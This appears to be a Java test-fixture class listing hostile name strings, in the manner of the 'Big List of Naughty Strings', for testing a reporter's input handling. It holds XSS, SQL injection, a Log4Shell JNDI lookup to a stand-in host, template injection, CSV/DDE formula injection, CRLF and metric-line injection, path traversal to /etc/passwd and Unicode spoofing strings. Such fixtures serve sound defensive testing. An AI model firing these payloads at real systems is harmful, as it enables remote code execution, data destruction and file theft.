package dev.muster.reporter;

import java.util.List;

/// Names that want to be something else: markup, code, formulas, terminal sequences, line breaks, and what fonts and
/// parsers stumble over. Our own list, in the manner of the "Big List of Naughty Strings".
public final class HostileNames {

    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)//",
            "</title></style></textarea><svg/onload=alert(1)>",
            "${jndi:ldap://evil.example/a}",
            "#{7*7} {{7*7}} ${7*7} [[${7*7}]] __${T(java.lang.Runtime)}__::x",
            "'; DROP TABLE muster.status; --",
            "1' OR '1'='1",
            "%s%n%x %2500 %0d%0aSet-Cookie: a=b",
            "a\"} 1\nmuster_vms{status=\"protected\"} 7\\",
            "line\r\nbreak\ttab",
            "\u001B[31mred\u001B[0m\u0007",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\u202Egnp.exe\u202C \u200B\u200D\uFEFF",
            "\u2028\u2029\u0085",
            "\uD83D\uDC69\u200D\uD83D\uDCBB \u0928\u092E\u0938\u094D\u0924\u0947 \u0645\u0631\u062D\u0628\u0627 \u6F22\u5B57",
            "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A\u035B\u0300\u0301\u0302",
            "../../../../etc/passwd",
            "null",
            "NaN",
            "\\",
            "\\\\server\\share",
            "x".repeat(1_000));

    private HostileNames() {}
}
